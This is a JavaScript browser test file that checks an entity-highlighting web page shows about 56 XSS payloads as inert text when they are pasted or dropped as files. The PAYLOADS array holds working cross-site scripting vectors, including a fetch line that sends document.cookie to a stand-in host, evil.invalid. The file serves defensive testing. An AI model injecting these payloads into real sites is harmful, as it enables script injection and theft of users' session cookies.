// Hostile text (issue 7): a corpus of XSS payloads, each pasted, dropped as a .txt file and
// dropped as an .html file, must show as inert text: no element of its own in the view or the
// card, no script run, no dialog, no request to any other origin; exports stay inert too.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { dropFile, openPage, waitForView, useBrowser } from './helpers.mjs';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src="http://evil.invalid/x.js"></script>',
  '<img src=x onerror=alert(2)>',
  '<img src="http://evil.invalid/p.png">',
  '<svg onload=alert(3)>',
  '<svg><script>alert(4)</script></svg>',
  '<svg><animate onbegin=alert(5) attributeName=x dur=1s>',
  '<body onload=alert(6)>',
  '<iframe src="javascript:alert(7)"></iframe>',
  '<iframe srcdoc="<script>alert(8)</script>"></iframe>',
  '<a href="javascript:alert(9)">Joe Biden</a>',
  '<a href="jAvAsCrIpT:alert(10)">click</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>',
  '<details open ontoggle=alert(12)>',
  '<video><source onerror=alert(13)></video>',
  '<audio src=x onerror=alert(14)>',
  '<input autofocus onfocus=alert(15)>',
  '<select autofocus onfocus=alert(16)>',
  '<textarea autofocus onfocus=alert(17)>',
  '<marquee onstart=alert(18)>Putin</marquee>',
  '<object data="javascript:alert(19)">',
  '<embed src="javascript:alert(20)">',
  '<form action="javascript:alert(21)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(22)">',
  '<link rel=stylesheet href="http://evil.invalid/x.css">',
  '<style>@import "http://evil.invalid/y.css";</style>',
  '<div style="background:url(http://evil.invalid/z.png)">Moscow</div>',
  '<base href="http://evil.invalid/">',
  '"><script>alert(23)</script>',
  "'><img src=x onerror=alert(24)>",
  '</textarea><script>alert(25)</script>',
  '</mark><script>alert(26)</script><mark>',
  '<mark data-label="PERSON" onmouseover=alert(27)>fake</mark>',
  '<span role="tooltip" id="card">fake card</span>',
  '<!--<img src=x onerror=alert(28)>-->',
  '<![CDATA[<script>alert(29)</script>]]>',
  '<scr<script>ipt>alert(30)</scr</script>ipt>',
  '<ScRiPt>alert(31)</sCrIpT>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(32)>',
  '&lt;script&gt;alert(33)&lt;/script&gt;',
  '<img src=`x` onerror=alert(34)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(35)>">',
  '<template><script>alert(36)</script></template>',
  '<portal src="http://evil.invalid/">',
  '<isindex action="javascript:alert(37)" type=image>',
  '<table background="javascript:alert(38)">',
  '<x onclick=alert(39)>Kyiv</x>',
  '\u202Egnp.exe\u202C Angela Merkel \u2066<script>\u2069',
  '\u202Dtxt.\u202E<img src=x onerror=alert(40)>',
  '{{constructor.constructor("alert(41)")()}}',
  '${alert(42)} `${alert(43)}`',
  'javascript:alert(44)',
  'data:text/html,<script>alert(45)</script>',
  '<svg><a xlink:href="javascript:alert(46)"><text x="20" y="20">XSS</text></a></svg>',
  '<math href="javascript:alert(47)">CLICK</math>',
  '<img src="x" onerror="fetch(\'http://evil.invalid/\'+document.cookie)">',
];

const env = useBrowser(async () => {
  env.session = await openPage(env.browser, env.server.url);
  await env.session.page.waitForSelector('#view mark.ent', { timeout: 20000 });
});

/** Elements in the view or card that the page did not make itself. */
function foreignElements(page) {
  return page.$$eval('#view *, #card *', (els) => els
    .filter((el) => !['MARK', 'SPAN', 'BR', 'DIV', 'P', 'DL', 'DT', 'DD', 'UL', 'LI', 'BUTTON', 'STRONG', 'SMALL', 'H3', 'A'].includes(el.tagName)
      || (el.tagName === 'A' && !/^#/.test(el.getAttribute('href') ?? '#'))
      || [...el.attributes].some((a) => a.name.startsWith('on')))
    .map((el) => el.outerHTML.slice(0, 80)));
}

test(`${PAYLOADS.length} payloads pasted are shown as the text they are`, async () => {
  assert.ok(PAYLOADS.length >= 50);
  const { page } = env.session;
  for (const [i, p] of PAYLOADS.entries()) {
    const text = `Joe Biden said ${p} in Paris on Friday. ${i}`;
    await page.fill('#input', text);
    await waitForView(page, text);
    assert.deepEqual(await foreignElements(page), [], `payload ${i}: ${p}`);
    // Hover the first highlight so the card renders entity text too.
    await page.locator('#view mark.ent').first().hover();
  }
});

test('payloads dropped as .txt and .html files stay inert', async () => {
  const { page } = env.session;
  for (const [i, p] of PAYLOADS.entries()) {
    const text = `Angela Merkel wrote ${p} on Friday ${i}`;
    await dropFile(page, `x${i}.txt`, 'text/plain', text);
    await waitForView(page, text, { allowEmpty: true });
    assert.deepEqual(await foreignElements(page), [], `txt payload ${i}`);
    await page.fill('#input', 'sentinel');
    await dropFile(page, `x${i}.html`, 'text/html', `<html><body><p>Angela Merkel in Paris.</p>${p}</body></html>`);
    await page.waitForFunction(() => document.getElementById('input').value !== 'sentinel');
    await page.waitForFunction(() => !document.getElementById('view').textContent.includes('sentinel'));
    assert.deepEqual(await foreignElements(page), [], `html payload ${i}`);
  }
});

test('nothing ran, nothing was fetched elsewhere', async () => {
  const { page, errors, requests } = env.session;
  await page.waitForTimeout(300);
  assert.deepEqual(errors.filter((e) => e.startsWith('dialog') || e.startsWith('pageerror')), []);
  const origin = new URL(env.server.url).origin;
  assert.deepEqual(requests.filter((u) => !u.startsWith(`${origin}/`)), []);
  assert.equal(await page.evaluate(() => document.cookie), '');
});
